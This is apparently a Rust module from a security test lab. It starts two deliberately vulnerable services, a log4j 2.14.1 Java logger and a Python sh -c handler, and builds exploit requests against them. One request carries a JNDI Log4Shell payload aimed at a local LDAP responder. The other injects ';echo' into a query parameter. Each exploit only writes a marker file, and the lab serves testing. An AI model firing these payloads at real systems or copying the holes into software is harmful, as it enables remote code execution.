//! The vulnerable services.

use std::path::{Path, PathBuf};
use std::process::Command;

use anyhow::{Context, Result, ensure};

use crate::ldap::Responder;
use crate::process::{Process, mortal};

/// Which service.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Kind {
    /// A JVM that logs the User-Agent with log4j 2.14.1.
    Log4Shell,
    /// Python that hands a parameter to `sh -c`.
    Injection,
}

impl Kind {
    pub(crate) fn name(self) -> &'static str {
        match self {
            Kind::Log4Shell => "log4shell",
            Kind::Injection => "injection",
        }
    }

    /// What a streaming response starts with, before the exploit runs.
    pub(crate) fn text_before(self) -> &'static str {
        match self {
            Kind::Log4Shell => "before the log\n",
            Kind::Injection => "before the shell\n",
        }
    }
}

/// A service at work, and where its exploits leave their marks.
pub(crate) struct Backend {
    pub(crate) kind: Kind,
    pub(crate) port: u16,
    markers: PathBuf,
    ldap: Option<Responder>,
    _process: Process,
}

impl Backend {
    pub(crate) fn start(kind: Kind, work: &Path) -> Result<Self> {
        let markers = work.join(format!("markers-{}", kind.name()));
        std::fs::create_dir_all(&markers)?;
        let (mut process, ldap) = match kind {
            Kind::Log4Shell => {
                let ldap = Responder::start(&markers)?;
                (Process::spawn(&mut java(work)?)?, Some(ldap))
            }
            Kind::Injection => {
                let script = concat!(env!("CARGO_MANIFEST_DIR"), "/services/injection.py");
                (
                    Process::spawn(mortal("/usr/bin/python3").arg(script))?,
                    None,
                )
            }
        };
        let port = process
            .first_line()?
            .parse()
            .context("the service did not start")?;
        Ok(Self {
            kind,
            port,
            markers,
            ldap,
            _process: process,
        })
    }

    /// An exploit that, when it works, leaves the marker `name`: the request for it.
    pub(crate) fn exploit(&self, name: &str, streaming: bool) -> String {
        let path = if streaming { "/stream" } else { "/echo" };
        match &self.ldap {
            Some(ldap) => format!(
                "GET {path} HTTP/1.1\r\nHost: lab\r\nUser-Agent: ${{jndi:ldap://127.0.0.1:{}/{name}}}\r\n\
                 Accept: application/json\r\n\r\n",
                ldap.port
            ),
            None => format!(
                "GET {path}?text=x;echo%20run%3E{} HTTP/1.1\r\nHost: lab\r\nAccept: application/json\r\n\r\n",
                self.marker(name).display()
            ),
        }
    }

    pub(crate) fn marker(&self, name: &str) -> PathBuf {
        self.markers.join(name)
    }

    /// Markers that are there: shells that ran.
    pub(crate) fn side_effects(&self) -> Result<usize> {
        Ok(std::fs::read_dir(&self.markers)?.count())
    }

    pub(crate) fn forget_markers(&self) -> Result<()> {
        for entry in std::fs::read_dir(&self.markers)? {
            std::fs::remove_file(entry?.path())?;
        }
        Ok(())
    }
}

/// A request that any visitor sends.
pub(crate) fn benign(visitor: u32, nth: u32) -> String {
    format!(
        "GET /page/{nth}?v={visitor} HTTP/1.1\r\nHost: lab\r\nUser-Agent: Mozilla/5.0 (lab)\r\n\r\n"
    )
}

/// Compiles the service against the real jars, and how to start it.
fn java(work: &Path) -> Result<Command> {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("..");
    let jars = root.join("target/lab/log4j");
    let jar = |name: &str| jars.join(format!("log4j-{name}-2.14.1.jar"));
    ensure!(
        jar("core").exists(),
        "log4j-core 2.14.1 is missing; run scripts/log4j"
    );
    let classes = work.join("classes");
    std::fs::create_dir_all(&classes)?;
    let sources = Path::new(env!("CARGO_MANIFEST_DIR")).join("services/log4shell");
    std::fs::copy(sources.join("log4j2.xml"), classes.join("log4j2.xml"))?;
    let path = format!("{}:{}", jar("core").display(), jar("api").display());
    let compiled = Command::new("javac")
        .args(["-cp", &path, "-d"])
        .arg(&classes)
        .args([
            sources.join("Service.java"),
            sources.join("MarkerFactory.java"),
        ])
        .status()
        .context("javac is missing: make setup")?;
    ensure!(compiled.success(), "the service does not compile");
    let mut java = mortal("java");
    java.args([
        "-Xmx256m",
        "-cp",
        &format!("{}:{path}", classes.display()),
        "Service",
    ]);
    Ok(java)
}
